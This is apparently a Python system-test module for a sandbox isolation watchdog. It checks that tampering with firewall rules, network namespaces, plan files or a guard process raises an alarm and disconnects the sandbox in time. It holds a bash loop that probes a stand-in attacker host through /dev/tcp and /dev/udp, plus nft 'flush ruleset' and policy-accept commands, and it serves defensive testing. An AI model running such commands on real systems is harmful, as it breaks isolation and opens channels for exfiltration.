"""A change around a sandbox is detected within ten seconds and recorded, and the sandbox is disconnected.

Every sandbox here tries to reach the attacker all the time. Nothing leaves between the change and the disconnection
either.
It tests `runtimes/checks/watch.py`.
"""

import contextlib
import itertools
import os
import re
import signal
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from demo.sandboxes import CUT_OFF_SECONDS, Secrets
from lifecycle.posture.capture import Capture
from runtimes.net import netns
from testbed.census import Census, command_lines, daemons, take
from testbed.internet import ADDRESSES, ATTACKER, STATUS, Internet
from testbed.stack import EMPTY_IMAGE, Stack
from tests.conftest import ON_RUNSC
from tests.stacks import beside, put_secrets
from tests.stopping import stop
from wire.api.hostd import Inspect

pytestmark = [pytest.mark.system, pytest.mark.faults]

PATIENCE = 60.0
ALIKE = 10
"""So many creations of a sandbox take no longer than `CUT_OFF_SECONDS`, unless the machine is busy."""
_TRIES = (
    f"while :; do (echo sallyport-probe-marker >/dev/tcp/{ADDRESSES[ATTACKER]}/22) 2>/dev/null; "
    f"(echo sallyport-probe-marker >/dev/udp/{ADDRESSES[ATTACKER]}/9999) 2>/dev/null; "
    f"curl -sS -o /dev/null --max-time 3 https://{STATUS}/; sleep 1; done"
)


@dataclass(frozen=True, slots=True)
class Place:
    """The places of a sandbox on the host."""

    sandbox: Path
    gateway: Path
    plans: Path
    container: str


def _in(path: Path, *command: str) -> None:
    subprocess.run(["nsenter", f"--net={path}", *command], check=True, capture_output=True)


def _set(path: Path, name: str, value: str) -> None:
    netns.inside(path, lambda: Path("/proc/sys/net", name).write_text(value))


def _verdict(place: Place) -> None:
    rules = netns.list_rules(place.gateway, "ruleset").replace("counter packets 0 bytes 0 drop", "counter drop")
    assert "counter drop" in rules
    netns.load_rules(place.gateway, f"flush ruleset\n{re.sub(r'counter drop$', 'accept', rules, flags=re.MULTILINE)}")


def _namespace(place: Place) -> None:
    other = place.plans.parent / f"other-{place.sandbox.name}"
    netns.create_sandbox(other)
    subprocess.run(["mount", "--bind", str(other), str(place.sandbox)], check=True)
    netns.delete(other)


def _link(path: Path) -> None:
    _in(path, "ip", "link", "add", "extra0", "type", "veth", "peer", "name", "extra1")


def _neighbour(place: Place) -> None:
    _in(place.gateway, "ip", "neigh", "add", "192.0.2.3", "lladdr", "02:00:00:00:00:09", "dev", "gw0")


def _plan(place: Place, change: Callable[[Path], object]) -> None:
    path = place.plans / f"{place.container}.claimed"
    assert path.exists()
    change(path)


CHANGES: dict[str, tuple[str, Callable[[Place], object]]] = {
    "verdict": ("ruleset", _verdict),
    "rule": ("ruleset", lambda at: _in(at.gateway, "nft", "add rule inet sallyport forward accept")),
    "flush": ("ruleset", lambda at: _in(at.gateway, "nft", "flush ruleset")),
    "policy": ("ruleset", lambda at: _in(at.gateway, "nft", "chain inet sallyport forward { policy accept; }")),
    "gateway-link": ("link", lambda at: _link(at.gateway)),
    "sandbox-link": ("link", lambda at: _link(at.sandbox)),
    "gateway-address": ("address", lambda at: _in(at.gateway, "ip", "addr", "add", "10.9.9.9/24", "dev", "gw0")),
    "sandbox-address": ("address", lambda at: _in(at.sandbox, "ip", "addr", "add", "10.9.9.8/24", "dev", "eth0")),
    "forwarding": ("setting", lambda at: _set(at.gateway, "ipv4/ip_forward", "1")),
    "neighbour": ("neighbour", _neighbour),
    "namespace": ("namespace", _namespace),
    "plan-changed": ("plan", lambda at: _plan(at, lambda path: path.write_text("{}"))),
    "plan-removed": ("plan", lambda at: _plan(at, Path.unlink)),
    "plan-again": ("plan", lambda at: _plan(at, lambda path: path.with_suffix(".json").write_bytes(path.read_bytes()))),
}


@pytest.fixture(scope="module", name="stack")
def _stack(values: Secrets) -> Iterator[Stack]:
    """A separate server for this module: all of its alarms come from these tests."""
    with beside(Stack, "watch", values) as stack:
        put_secrets(stack, values)
        yield stack


@pytest.fixture(scope="module", name="internet")
def _internet(stack: Stack) -> Internet:
    return stack.internet


def alarms(stack: Stack) -> list[dict[str, Any]]:
    return [record for record in stack.audit_records() if record["kind"] == "alarm"]


def until(condition: Callable[[], bool], seconds: float) -> bool:
    """Return whether `condition` became true in time."""
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


def settled(stack: Stack, before: Census, seconds: float = PATIENCE) -> dict[str, object]:
    """Return the differences from `before`: none, or those that are left when the time is over."""
    until(lambda: not take(stack).beyond(before), seconds)
    return take(stack).beyond(before)


def client(stack: Stack) -> httpx.Client:
    return httpx.Client(
        base_url=f"{stack.base}/v1", headers={"OPEN-SANDBOX-API-KEY": stack.api_key}, timeout=60, trust_env=False
    )


def create(stack: Stack, runtime: str, **changes: Any) -> httpx.Response:
    """Request a sandbox. The test waits for nothing in it."""
    request = {
        "image": {"uri": EMPTY_IMAGE},
        "resourceLimits": {"memory": "256Mi"},
        "entrypoint": ["tail", "-f", "/dev/null"],
        "timeout": 600,
        "extensions": {"sallyport.runtime": runtime},
    }
    with client(stack) as http:
        return http.post("/sandboxes", json=request | changes)


def created(stack: Stack, runtime: str, **changes: Any) -> str:
    """Return a sandbox's id."""
    answer = create(stack, runtime, **changes)
    assert 202 == answer.status_code, answer.text
    return str(answer.json()["id"])


def place_of(stack: Stack, name: str) -> Place:
    told = stack.ask(Inspect(name))
    return Place(
        Path(told.network.sandbox_netns),
        Path(told.network.gateway_netns),
        stack.run / "plans",
        str(told.state.container),
    )


def status(stack: Stack, name: str) -> dict[str, Any]:
    with client(stack) as http:
        found: dict[str, Any] = http.get(f"/sandboxes/{name}").json()["status"]
    return found


def delete(stack: Stack, *names: str) -> None:
    with client(stack) as http:
        for name in names:
            assert http.delete(f"/sandboxes/{name}").status_code in (204, 404)


@pytest.mark.timed
@pytest.mark.parametrize("runtime", ON_RUNSC)
def test_each_change_around_a_sandbox_is_an_alarm_and_cuts_it_off(
    runtime: str, stack: Stack, internet: Internet
) -> None:
    delete(stack, created(stack, runtime))  # Resources that a runtime creates once exist before the census.
    before = take(stack)
    told = len(alarms(stack))
    busy = {
        "image": {"uri": "sallyport/base"},
        "entrypoint": ["bash", "-c", _TRIES],
        "extensions": {"sallyport.runtime": runtime, "sallyport.policy": "agents"},
    }
    began = time.monotonic()
    names = {change: created(stack, runtime, **busy) for change in (*CHANGES, "untouched")}
    # To create a slot is the work of comparing one, and more. If ALIKE creations take longer, their time is the limit.
    bound = max(CUT_OFF_SECONDS, ALIKE * (time.monotonic() - began) / len(names))
    try:
        places = {change: place_of(stack, name) for change, name in names.items()}
        with Capture(internet.path(internet.net), "net0") as wire:
            assert until(lambda: any(frame.destination == ADDRESSES[STATUS] for frame in wire.since(0)), PATIENCE)
            changed: dict[str, float] = {}
            for change, (_, make) in CHANGES.items():
                make(places[change])
                changed[change] = time.monotonic()
            seen: dict[str, float] = {}
            rules: dict[str, str] = {}

            def all_told() -> bool:
                for record in alarms(stack)[told:]:
                    for change, name in names.items():
                        if record.get("sandbox") == name and change not in seen:
                            seen[change], rules[change] = time.monotonic(), record["rule"]
                return set(CHANGES) <= set(seen)

            assert until(all_told, PATIENCE), f"no alarm for {set(CHANGES) - set(seen)}"
            assert {} == {c: t - changed[c] for c, t in seen.items() if c in changed and t - changed[c] > bound}
            assert {change: f"isolation.{rule}" for change, (rule, _) in CHANGES.items()} == rules
            until(lambda: len(_cut(stack, names)) == len(CHANGES), PATIENCE)
            assert set(CHANGES) == _cut(stack, names)
            mark = wire.mark()
            going_on = until(lambda: any(f.destination == ADDRESSES[STATUS] for f in wire.since(mark)), PATIENCE)
            assert going_on, "the untouched sandbox does not go on"
            assert 0 == sum(1 for frame in wire.since(0) if frame.destination == ADDRESSES[ATTACKER])
        shown = {change: status(stack, names[change]) for change in CHANGES}
        until(lambda: all(status(stack, names[change])["state"] == "Failed" for change in CHANGES), PATIENCE)
        shown = {change: status(stack, names[change]) for change in CHANGES}
        assert {"Failed"} == {item["state"] for item in shown.values()}
        assert {"ISOLATION_ALARM"} == {item["reason"] for item in shown.values()}
        assert [] == [c for c, item in shown.items() if f"isolation.{CHANGES[c][0]}" not in item["message"]]
        assert "Running" == status(stack, names["untouched"])["state"]
        left = {path.name for path in (stack.run / "netns").iterdir()}
        assert set() == {p.gateway.name for c, p in places.items() if c in CHANGES} & left
    finally:
        delete(stack, *names.values())
    assert {} == settled(stack, before)


def _cut(stack: Stack, names: dict[str, str]) -> set[str]:
    """The changes after which nothing of the sandbox is left: hostd shows the alarm, no worker, no slot."""
    known = {item.sandbox: item for item in stack.sandboxes()}
    return {
        change
        for change, name in names.items()
        if known[name].alarm and known[name].worker_pid is None and known[name].slot is None
    }


def test_a_file_that_is_not_ours_is_taken_out_of_the_plans(stack: Stack) -> None:
    told = len(alarms(stack))
    foreign = [stack.run / "plans" / f"{'ab' * 32}.json", stack.run / "plans" / "link", stack.run / "plans" / "note"]
    foreign[0].write_text("{}")
    foreign[1].symlink_to("/etc/passwd")
    foreign[2].mkdir()

    assert until(lambda: len(alarms(stack)) >= told + 3, PATIENCE)
    assert {"isolation.plan"} == {record["rule"] for record in alarms(stack)[told:]}
    assert [] == [path for path in foreign if os.path.lexists(path)]


def guards(upstream: Path) -> list[int]:
    """Return the owner of the table in a namespace. hostd itself lets other processes list the table at times."""
    pids = netns.processes(frozenset((netns.inode(upstream),)))
    lines = command_lines()
    return [pid for pid in pids if lines.get(pid, "").startswith("nft -i")]


@pytest.mark.parametrize(
    "change",
    [
        "delete table inet sallyport_guard",
        "insert rule inet sallyport_guard worker accept",
        "add chain inet sallyport_guard output { policy accept; }; flush chain inet sallyport_guard output",
        None,
    ],
    ids=["removed", "rule", "flushed", "killed"],
)
def test_a_guard_without_its_table_is_renewed(change: str | None, stack: Stack, internet: Internet) -> None:
    """An operation that only the owner of the table can do, done through the owner."""
    told = len(alarms(stack))
    upstream = Path(internet.path(internet.up))
    right = netns.list_rules(upstream, "-t", "table", "inet", "sallyport_guard")
    (guard,) = guards(upstream)
    if change is None:
        os.kill(guard, signal.SIGKILL)
    else:
        Path(f"/proc/{guard}/fd/0").write_text(f"{change}\n")

    def renewed() -> bool:
        with contextlib.suppress(netns.NftError):
            listed = netns.list_rules(upstream, "-t", "table", "inet", "sallyport_guard")
            return listed == right and guard not in guards(upstream)
        return False

    assert until(lambda: len(alarms(stack)) > told, PATIENCE)
    assert until(renewed, PATIENCE)
    assert ["isolation.guard"] == [record["rule"] for record in alarms(stack)[told:]]


def test_a_replaced_plan_directory_stops_launches_and_what_was_launched(second: Stack) -> None:
    name = created(second, "runc")
    plans, moved = second.run / "plans", second.run / "plans.moved"
    plans.rename(moved)
    plans.mkdir(mode=0o700)

    assert until(lambda: "isolation.plan" in {record["rule"] for record in alarms(second)}, PATIENCE)
    assert until(lambda: status(second, name)["state"] == "Failed", PATIENCE)
    refused = create(second, "runc")
    assert refused.status_code >= 500, refused.text
    plans.rmdir()
    moved.rename(plans)
    delete(second, created(second, "runc"), name)

    wrapper = second.run / "runtimes" / "sallyport-runc"
    text = wrapper.read_bytes()
    wrapper.write_bytes(text.replace(b"-IS", b"-I"))
    assert until(lambda: "isolation.file" in {record["rule"] for record in alarms(second)}, PATIENCE)
    refused = create(second, "runc")
    assert refused.status_code >= 500, refused.text
    wrapper.write_bytes(text)
    delete(second, created(second, "runc"))


def test_an_alarm_is_kept_until_auditd_takes_it(second: Stack) -> None:
    """The sandbox is disconnected although auditd does not run. The record follows when auditd is back."""
    name = created(second, "runsc")
    place = place_of(second, name)
    auditd = daemons(second)["audit.auditd"]
    stop(auditd)
    try:
        _link(place.gateway)
        assert until(lambda: bool(second.inspect(name).alarm), PATIENCE)
        assert until(lambda: not place.gateway.exists(), PATIENCE)
        assert [] == alarms(second)
    finally:
        with contextlib.suppress(ProcessLookupError):  # hostd ends a process that hangs, after some time.
            os.kill(auditd, signal.SIGCONT)
    assert until(lambda: name in {record.get("sandbox") for record in alarms(second)}, PATIENCE)
    delete(second, name)


def test_ordinary_use_is_no_alarm(stack: Stack) -> None:
    """Sandboxes are created, work and are removed for twenty seconds."""
    told = len(alarms(stack))
    end = time.monotonic() + 20
    failures: list[BaseException] = []

    def churn(runtime: str) -> None:
        try:
            while time.monotonic() < end:
                name = created(
                    stack,
                    runtime,
                    image={"uri": "sallyport/base"},
                    entrypoint=["bash", "-c", _TRIES],
                    extensions={"sallyport.runtime": runtime, "sallyport.policy": "agents"},
                )
                time.sleep(next(pauses))
                delete(stack, name)
        except BaseException as error:  # noqa: BLE001 - raised below
            failures.append(error)

    pauses = itertools.cycle((0.0, 0.3, 1.0, 4.0))
    threads = [threading.Thread(target=churn, args=(runtime,)) for runtime in ("runc", "runsc") * 2]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert [] == failures
    assert [] == alarms(stack)[told:]
